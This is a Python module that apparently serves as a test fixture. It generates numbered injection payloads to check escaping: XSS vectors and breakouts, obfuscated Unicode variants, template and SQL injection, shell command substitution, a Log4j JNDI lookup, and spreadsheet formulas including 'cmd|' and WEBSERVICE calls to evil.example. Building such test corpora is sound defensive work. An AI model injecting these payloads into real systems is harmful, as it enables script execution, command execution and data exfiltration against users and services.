"""The payloads: vectors, each in the wrappers that could free it, and texts that need no wrapper.

Every one bears a number of its own, so that it can be told where it comes out. What would run calls alert with it.
"""

from itertools import count

# What runs or loads something once it stands where markup is read.
VECTORS = [
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT >",
    "<script src=//evil.example/{n}></script>",
    "<script type=module>import'//evil.example/{n}'</script>",
    "<img src=x onerror=alert({n})>",
    "<img src=//evil.example/{n}.png>",
    "<img/src=x/onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert({n})><text>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert({n})>#x'/>",
    "<math><a xlink:href=javascript:alert({n})>x</math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert({n})>",
    "<body onload=alert({n})>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<object data=data:text/html,<script>alert({n})</script>>",
    "<embed src=javascript:alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<a href=javascript:alert({n})>x</a>",
    "<form action=//evil.example/{n}><button>x</button></form>",
    "<button formaction=javascript:alert({n})>x</button>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import'//evil.example/{n}';</style>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<x contenteditable onblur=alert({n})>x</x>",
    "<p style=background:url(//evil.example/{n})>",
    "<template><img src=x onerror=alert({n})></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'>",
]
# What would end the place that a text stands in.
ENDS = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
]
# Vectors that are tried behind every end; the others stand alone.
EVERYWHERE = 14
ELEMENTS = (
    "a abbr article aside b bdi body button code dd del details dialog div dl dt em fieldset figure footer form h1 h2"
    " h3 head header html input ins kbd label legend li main nav ol option p path pre script section select small span"
    " strong style sub summary sup svg table tbody td textarea th thead time title tr ul"
    " datalist defs desc figcaption g line meter noscript optgroup output pattern progress rect symbol template"
    " mark q text use"
).split()
ATTRIBUTES = [
    '" onmouseover="alert({n})',
    "' onmouseover='alert({n})",
    '" autofocus onfocus="alert({n})" x="',
    "` onmouseover=alert({n})`",
    " onmouseover=alert({n}) ",
    '"/onmouseover=alert({n})//',
    '" style="position:fixed;inset:0" x="{n}',
    '" href="javascript:alert({n})" x="',
    '"\nonmouseover\n=\n"alert({n})',
    '"\x0conmouseover="alert({n})',
    "&quot; onmouseover=&quot;alert({n})",
    "&#34; onmouseover=&#34;alert({n})",
]
ADDRESSES = [
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "\x01javascript:alert({n})",
    "javascript&colon;alert({n})",
    "&#106;avascript:alert({n})",
    "javascript://%0aalert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "vbscript:msgbox({n})",
    "//evil.example/{n}",
    "https://evil.example/{n}",
    "\\\\evil.example\\{n}",
    "mailto:x@evil.example?bcc={n}",
]
TEMPLATES = [
    "{{{{{n}*7}}}}",
    "{{% print {n}*7 %}}",
    "{{# {n} #}}",
    "${{{n}*7}}",
    "#{{{n}*7}}",
    "<%= {n}*7 %>",
    "{{{{config.items()}}}}{n}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}{n}",
    "%({n})s",
    "%s%n{n}",
    "{{0.__class__}}{n}",
    "$(touch /tmp/{n})",
    "`touch /tmp/{n}`",
    "'; DROP TABLE message; --{n}",
    '" OR {n}={n} --',
    "${{jndi:ldap://evil.example/{n}}}",
]
MARKDOWN = [
    "[x](javascript:alert({n}))",
    "![x](//evil.example/{n}.png)",
    '![x](x "onerror=alert({n})")',
    "<javascript:alert({n})>",
    "[x]: javascript:alert({n})",
    "```html\n<script>alert({n})</script>\n```",
    "# {n}\n> - * | x |",
    "**{n}** ~~x~~ <u>x</u>",
]
UNICODE = [
    "\u202e{n}<script>alert()\u202c",
    "\u2066\u202e{n}\u2069evil",
    "\u200b<\u200bscript>alert({n})",
    "＜script＞alert({n})＜/script＞",  # noqa: RUF001  They look like the others.
    "\u02c2script\u02c3alert({n})",
    "<scr\u0131pt>alert({n})</scr\u0131pt>",
    "<\u017fcript>alert({n})</\u017fcript>",
    "<img src=x onerror\u2028=alert({n})>",
    "\ufeff<script>alert({n})</script>",
    "{n}\u0300\u0301\u0302\u0303\u0304" * 4,
    "\U000e0041\U000e0042{n}",
    "{n}\ufffe\uffff\ufdd0",
    "\x1b[31m{n}\x1b]0;title\x07",
    "{n}\x08\x08\x08\x7f\x85\x9b31m",
    "\u00c3\u00a9\u00e2\u0080\u0099{n}",
    "%c0%bcscript%c0%bealert({n})",
    "\\xc0\\xbcscript\\xe0\\x80\\xbe{n}",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "\u00bcscript\u00bealert({n})\u00bc/script\u00be",
    "\\u003cscript\\u003ealert({n})",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "&#x3c;script>alert({n})",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "<script\u00a0>alert({n})</script>",
]
CELLS = [
    "=1+{n}",
    "+1+{n}",
    "-1+{n}",
    "@SUM({n})",
    "\t=1+{n}",
    " =1+{n}",
    "\u00a0=1+{n}",
    "\u200b=1+{n}",
    "\ufeff=1+{n}",
    "＝1+{n}",  # noqa: RUF001  As above.
    "＋1+{n}",  # noqa: RUF001  As above.
    "－1+{n}",  # noqa: RUF001  As above.
    "＠SUM({n})",  # noqa: RUF001  As above.
    "=cmd|'/C calc'!A{n}",
    "-2+3+cmd|'/C calc'!D{n}",
    '=HYPERLINK("http://evil.example/{n}","x")',
    '=IMPORTXML("http://evil.example/{n}","//a")',
    '=WEBSERVICE("http://evil.example/{n}")',
    '@import("{n}")',
    '"=1+{n}',
    '",=1+{n},"',
    "x\n=1+{n}",
    "x;=1+{n}",
    "x; =HYPERLINK(A{n});y",
    "x\r\n\u00a0@SUM({n})\t+1\r-1;\u200b＝2;\n=3",  # noqa: RUF001  As above.
    'x;"=1+{n}";""-2',
    ";;;=1+{n}; x =2",
    "\u202e=1+{n}",
    "+1310555{n}",
]


def _templates() -> list[str]:
    behind = [end + vector for end in ENDS for vector in VECTORS[:EVERYWHERE]]
    closed = [f"</{element}><img src=x onerror=alert({{n}})>" for element in ELEMENTS]
    alone = [VECTORS[EVERYWHERE:], ATTRIBUTES, ADDRESSES, TEMPLATES, MARKDOWN, UNICODE, CELLS]
    return [*behind, *closed, *(one for group in alone for one in group)]


_numbers = count(710_000_001)
PAYLOADS = [text.format(n=next(_numbers)) for text in _templates()]
